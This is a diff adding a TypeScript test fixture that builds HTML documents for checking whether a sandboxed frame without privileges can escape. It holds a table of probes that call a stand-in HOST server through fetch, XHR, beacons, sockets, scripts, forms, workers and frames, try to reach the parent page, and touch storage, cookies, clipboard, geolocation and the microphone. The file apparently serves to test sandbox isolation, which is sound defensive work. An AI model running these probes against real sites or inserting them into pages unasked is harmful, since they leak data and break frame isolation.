@@ -1,0 +1,132 @@
+/**
+ * Documents of HTML that reach for what a frame without rights must not have. What they run is `attempt`, the
+ * body of an asynchronous function; whatever comes of it is reported to the page: `REACHED` or anything else.
+ * `HOST` stands for the address of a server that would answer, and notes who comes.
+ */
+export interface DocumentAttack {
+  readonly name: string;
+  readonly attempt: string;
+  /** What stands in the document besides. */
+  readonly html?: string;
+}
+
+type Row = readonly [name: string, attempt: string, html?: string];
+
+const waits = (code: string) =>
+  `return new Promise((y) => { ${code}; setTimeout(() => y("silence"), 500); });`;
+
+const ROWS: readonly Row[] = [
+  ['a request', 'await fetch("HOST/escaped", { mode: "no-cors" }); return "REACHED";'],
+  [
+    'a request of the old kind',
+    'const x = new XMLHttpRequest(); x.open("GET", "HOST/escaped", false); x.send(); return "REACHED";',
+  ],
+  ['a beacon', 'navigator.sendBeacon("HOST/escaped", "x"); return "sent";'],
+  [
+    'a socket',
+    waits(
+      's = new WebSocket("HOST/escaped".replace("http", "ws")); s.onopen = () => y("REACHED"); s.onerror = () => y("refused")',
+    ).replace('s = new', 'const s = new'),
+  ],
+  [
+    'a stream of events',
+    waits('const s = new EventSource("HOST/escaped"); s.onopen = () => y("REACHED")'),
+  ],
+  [
+    'a picture',
+    waits('const i = new Image(); i.onload = i.onerror = () => y("tried"); i.src = "HOST/escaped"'),
+  ],
+  [
+    'a script',
+    waits(
+      'const s = document.createElement("script"); s.src = "HOST/escaped.js"; s.onload = () => y("REACHED"); s.onerror = () => y("refused"); document.head.append(s)',
+    ),
+  ],
+  ['a module', 'await import("HOST/escaped.js"); return "REACHED";'],
+  [
+    'a style',
+    waits(
+      'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "HOST/escaped"; l.onload = () => y("REACHED"); l.onerror = () => y("refused"); document.head.append(l)',
+    ),
+  ],
+  ['a style in the text', waits(''), '<style>@import url(HOST/escaped);</style>'],
+  ['a font', 'await new FontFace("x", "url(HOST/escaped)").load(); return "REACHED";'],
+  ['what is fetched ahead', waits(''), '<link rel="prefetch" href="HOST/escaped">'],
+  ['a frame', waits(''), '<iframe src="HOST/escaped"></iframe>'],
+  ['an object', waits(''), '<object data="HOST/escaped"></object><embed src="HOST/escaped">'],
+  ['a film', waits(''), '<video src="HOST/escaped" autoplay></video>'],
+  [
+    'a form',
+    waits('document.forms[0].submit()'),
+    '<form action="HOST/escaped"><input name="a"></form>',
+  ],
+  [
+    'a link',
+    waits('document.querySelector("a").click()'),
+    '<a href="HOST/escaped" ping="HOST/escaped">x</a>',
+  ],
+  ['a window', 'return window.open("HOST/escaped") ? "REACHED" : "refused";'],
+  ['the page above', 'return top.document ? "REACHED" : "refused";'],
+  ['the address of the page above', 'top.location = "HOST/escaped"; return "tried";'],
+  [
+    'the frames of the page above',
+    'for (let i = 0; i < parent.length; i++) { try { if (parent[i] !== self && parent[i].document) return "REACHED"; } catch {} } return "refused";',
+  ],
+  ['storage', 'localStorage.x = 1; return "REACHED";'],
+  ['storage of a session', 'sessionStorage.x = 1; return "REACHED";'],
+  [
+    'a database',
+    waits(
+      'const q = indexedDB.open("x"); q.onsuccess = () => y("REACHED"); q.onerror = () => y("refused")',
+    ),
+  ],
+  ['cookies', 'document.cookie = "x=1"; return document.cookie === "" ? "none" : "REACHED";'],
+  ['a cache', 'await caches.open("x"); return "REACHED";'],
+  [
+    'a worker that serves',
+    'await navigator.serviceWorker.register("HOST/x.js"); return "REACHED";',
+  ],
+  ['a worker that is shared', 'new SharedWorker("HOST/escaped.js"); return "tried";'],
+  [
+    'a worker that makes requests',
+    waits(
+      'const w = new Worker(URL.createObjectURL(new Blob([`fetch("HOST/escaped", { mode: "no-cors" }).then(() => postMessage("REACHED"), () => postMessage("refused"))`]))); w.onmessage = ({ data }) => y(data); w.onerror = () => y("refused")',
+    ),
+  ],
+  [
+    'a connection to a peer',
+    'return typeof RTCPeerConnection === "undefined" && typeof webkitRTCPeerConnection === "undefined" ? "none" : "REACHED";',
+  ],
+  [
+    'a connection to a peer by an empty frame',
+    'const f = document.createElement("iframe"); document.body.append(f); return f.contentWindow.RTCPeerConnection ? "REACHED" : "none";',
+  ],
+  [
+    'a policy that allows more',
+    'await fetch("HOST/escaped", { mode: "no-cors" }); return "REACHED";',
+    '<meta http-equiv="Content-Security-Policy" content="default-src *; connect-src *">',
+  ],
+  ['the origin', 'return origin === "null" ? "none" : "REACHED " + origin;'],
+  ['a device', 'await navigator.mediaDevices.getUserMedia({ audio: true }); return "REACHED";'],
+  [
+    'where one is',
+    waits('navigator.geolocation.getCurrentPosition(() => y("REACHED"), () => y("refused"))'),
+  ],
+  ['the clipboard', 'await navigator.clipboard.readText(); return "REACHED";'],
+  ['the whole screen', 'await document.documentElement.requestFullscreen(); return "REACHED";'],
+  ['a dialog', 'alert("x"); return confirm("x") ? "REACHED" : "refused";'],
+];
+
+export const DOCUMENT_ATTACKS: readonly DocumentAttack[] = ROWS.map(
+  ([name, attempt, html = '']) => ({
+    name,
+    attempt,
+    html,
+  }),
+);
+
+/** @param host the address of the server */
+export function documentOf({ attempt, html = '' }: DocumentAttack, host: string): string {
+  const text = `<body>${html}<script>(async () => { ${attempt} })().then((said) => said, (error) => "refused " + error).then((said) => setTimeout(() => parent.postMessage("Line 1: done: " + said, "*"), 300));</script>`;
+  return text.replaceAll('HOST', host);
+}
